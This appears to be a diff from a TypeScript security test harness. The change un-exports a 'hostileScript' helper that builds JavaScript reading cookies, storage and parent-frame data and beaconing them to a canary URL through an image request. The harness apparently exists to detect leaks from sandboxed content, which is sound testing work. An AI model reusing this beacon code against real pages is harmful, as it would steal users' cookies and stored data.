@@ -7,7 +7,7 @@ export const SCRIPTED = ["/ran", "/cookie", "/storage", "/plan", "/socket", "/be
 export const PASSIVE = ["/img", "/style", "/import", "/background", "/frame", "/object", "/preload", "/media", "/refresh"] as const;
 
 /** Reads cookie, storage, parent and the node's own API, and tells the canary. */
-export function hostileScript(canary: string): string {
+function hostileScript(canary: string): string {
   return `
     const tell = (path, text) => { new Image().src = ${JSON.stringify(canary)} + path + "?" + encodeURIComponent(text); };
     const attempt = (path, read) => { try { tell(path, read()); } catch {} };
